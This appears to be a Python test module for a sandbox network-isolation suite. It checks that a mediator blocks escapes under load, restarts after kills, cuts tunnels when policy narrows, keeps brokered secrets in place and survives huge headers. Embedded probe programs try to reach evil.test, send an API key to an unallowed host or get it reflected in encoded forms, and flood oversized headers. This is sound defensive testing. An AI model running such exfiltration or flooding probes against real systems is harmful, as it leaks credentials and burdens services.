# SPDX-License-Identifier: Apache-2.0
"""Changes while programs run: broken documents, a killed mediator, a narrower policy, secrets, and many connections."""

import time

from doorcheck.driver import BROKER, DAMAGE, KILL, NARROW, Entry, Policy, Secret
from doorcheck.internet import zone
from doorcheck.trial import case, wait_for

ALLOWED = Policy((Entry("allowed.test", 443), Entry("allowed.test", 80), Entry("neighbour.test", 9000)))
BACK_SECONDS = 2.0  # the mediator works again after a kill
CUT_SECONDS = 1.0   # a tunnel ends after its rule went

# Attempts toward evil and toward the allowed host in turn, until the input's time is over.
LOAD = r'''
end, good, number = time.monotonic() + SECONDS, 0, 0
print("begins", flush=True)
while time.monotonic() < end:
    number += 1
    for target in (("evil.test", 80), (EVIL, 443), (EVIL, 80)):
        with contextlib.suppress(OSError):
            with contextlib.closing(dial(*target, 1)) as connection:
                connection.settimeout(0.5)
                if answer(connection, request("evil.test")): print("ESCAPED", target, flush=True)
    with contextlib.suppress(OSError, ValueError, IndexError):
        if fetch("allowed.test", tls=False)[0] == 200: print("good", time.time(), flush=True)
    time.sleep(PAUSE)
attempt("load", lambda: number)
'''


def under_load(trial, seconds, disturb):
    """Runs `disturb(running)` while a program tries evil all along → (its output, events). The program's time is over by
    itself, unless `disturb` gives the output that it has seen."""
    start = trial.world.mark()
    running = trial.begin(LOAD, ALLOWED, seconds + 30, SECONDS=seconds, PAUSE=0.02, EVIL=zone.EVIL)
    try:
        wait_for(lambda: "begins" in running.output(), 20)
        told = disturb(running) or running.wait(seconds + 30).stdout
    finally:
        running.end()
    if "ESCAPED" in told:
        trial.problem("the program reached evil under load")
    events = trial.world.since(start)
    trial.nothing_arrived(events, zone.EVIL)
    return told, events


def goods(told):
    return [float(line.split()[1]) for line in told.splitlines() if line.startswith("good ")]


@case(17, "broken policy documents under load", needs=(DAMAGE,))
def broken_documents(trial):
    def disturb(running):
        for _ in trial.driver.damage():
            time.sleep(0.1)

    told, _ = under_load(trial, 4, disturb)
    if trial.driver.transparent and not goods(told):
        trial.problem("the allowed host was never reached")


@case(28, "the mediator is killed under load", needs=(KILL,))
def killed_mediator(trial):
    kills = []

    def disturb(running):
        for _ in range(max(1, int(3 * trial.count))):
            wait_for(lambda: goods(running.output()) and goods(running.output())[-1] > (kills[-1] if kills else 0), 10)
            kills.append(time.time())
            trial.driver.kill_mediator()
        wait_for(lambda: goods(running.output())[-1] > kills[-1] + 0.05, 20)
        return running.output()

    told, _ = under_load(trial, 60 + 10 * int(3 * trial.count), disturb)
    for at in kills:
        after = [good for good in goods(told) if good > at + 0.05]
        if not after or after[0] - at > BACK_SECONDS:
            trial.problem(f"after a kill it was back in {after[0] - at if after else 'no'} s, at most {BACK_SECONDS}")


HOLDS = r'''
connection = secure(dial("allowed.test", 443), "allowed.test") if TLS else dial("neighbour.test", 9000)
connection.settimeout(8)
if TLS: connection.sendall(request("allowed.test", "/stream"))
def ends():
    while True:
        if not TLS: connection.sendall(b"tick")
        if not connection.recv(4096): return "end"
        print("tick", flush=True); time.sleep(0.02)
try: print("ended", ends(), time.time(), flush=True)
except OSError as error: print("ended", type(error).__name__, time.time(), flush=True)
'''


@case(18, "a narrower policy cuts open tunnels", needs=(NARROW,))
def narrowing_cuts(trial):
    for tls in (True, False):
        running = trial.begin(HOLDS, ALLOWED, 60, TLS=tls)
        try:
            wait_for(lambda: running.output().count("tick") > 3 or "ended" in running.output(), 20)
            start = time.time()
            trial.driver.narrow(Policy((Entry("api.test", 443),)))
            done = time.time()
            try:
                wait_for(lambda: "ended" in running.output(), 10)
            except AssertionError:
                trial.problem(f"{'TLS' if tls else 'TCP'}: the tunnel is open 10 s after its rule went")
                continue
            line = next(line for line in running.output().splitlines() if line.startswith("ended"))
            if float(line.split()[2]) - done > CUT_SECONDS:
                trial.problem(f"the tunnel was cut {float(line.split()[2]) - start:.1f} s after its rule went")
        finally:
            running.end()


PLACEHOLDER = r'''
held = os.environ.get("API_KEY", "")
header = (f"Authorization: Bearer {held}",)
attempt("allowed", fetch, "allowed.test", path="/echo", headers=header)
attempt("evil", fetch, "neighbour.test", path="/echo", headers=header)
for how in ("plain", "base64", "hex", "url"):
    def reflected():
        body = whole(secure(dial("allowed.test", 443), "allowed.test"), request("allowed.test", f"/reflect?as={how}", headers=header))[1]
        raise LookupError("nothing") if not any(each in body for each in SHAPES) else OSError(body)
    attempt(f"reflected {how}", reflected)
attempt("inside", lambda: any(each.decode() in held for each in SHAPES) or 1 / 0)
'''


@case(19, "a brokered secret: sent elsewhere, reflected in four codings", needs=(BROKER,))
def brokered_secret(trial):
    import base64
    import secrets
    import urllib.parse
    value = "k-" + secrets.token_hex(20)
    shapes = [value.encode(), base64.b64encode(b"Bearer " + value.encode())[:24], value.encode().hex().encode(),
              urllib.parse.quote(value, safe="").encode()]
    policy = Policy((Entry("allowed.test", 443), Entry("neighbour.test", 443)), secrets=(Secret("API_KEY", value, "allowed.test"),))
    result, events = trial.run(PLACEHOLDER, policy, SHAPES=shapes)
    trial.refused(result, but=("allowed",))
    trial.worked(result, "allowed")
    for event in trial.world.of(events, "http"):
        held = any(value in text for _, text in event["headers"])
        if held != (event["address"] in (zone.ALLOWED, zone.ALLOWED6)):
            trial.problem(f"the secret {'arrived at' if held else 'is missing at'} {event['address']}")
    if any(shape.decode("latin-1") in result.stdout for shape in shapes):
        trial.problem("the secret came back into the sandbox")


IDLE = r'''
held, failed = [], 0
while len(held) < COUNT and failed < 100:
    try:
        connection = dial("neighbour.test", 9000, 2); connection.sendall(b"x"); connection.recv(1); held.append(connection)
    except OSError: failed += 1; time.sleep(0.02)
print("held", len(held), "failed", failed, flush=True)
time.sleep(SECONDS)
'''
MEASURES = r'''
def once():
    start = time.monotonic(); fetch("allowed.test", tls=False); return time.monotonic() - start
attempt("first", once)
times = sorted(once() for _ in range(40))
print("p95", times[37], flush=True)
'''
HUGE = r'''
def huge(*headers):
    with contextlib.closing(dial("allowed.test", 80)) as connection:
        status, body = whole(connection, request("allowed.test", "/huge", headers=headers))
        if status >= 400: raise OSError(f"status {status}")
attempt("1 MB header", huge, "X: " + "y" * (1 << 20))
attempt("100,000 headers", huge, *(f"X{n}: y" for n in range(100_000)))
attempt("long path", lambda: fetch("allowed.test", path="/huge" + "y" * (1 << 20), tls=False))
attempt("fine", lambda: fetch("allowed.test", path="/fine", tls=False))
'''


@case(20, "a thousand idle tunnels beside a neighbour, and headers of 1 MB")
def many_and_huge(trial):
    def p95():
        told = trial.run(MEASURES, ALLOWED)[0]
        trial.worked(told, "first")
        return next((float(line.split()[1]) for line in told.stdout.splitlines() if line.startswith("p95")), 99.0)

    if trial.driver.transparent:
        before = p95()
        running = trial.begin(IDLE, ALLOWED, 120, COUNT=int(1000 * trial.count), SECONDS=60)
        try:
            wait_for(lambda: "held" in running.output(), 60)
            after = min(p95(), p95())
        finally:
            running.end()
        if after > 2 * before + 0.05:
            trial.problem(f"beside idle tunnels a neighbour's p95 went from {before * 1000:.0f} to {after * 1000:.0f} ms")
    result, events = trial.run(HUGE, ALLOWED)
    trial.refused(result, but=("fine",))
    if trial.driver.transparent:
        trial.worked(result, "fine")
    if any(event["path"].startswith("/huge") for event in trial.world.of(events, "http")):
        trial.problem("a request with 1 MB of headers arrived")
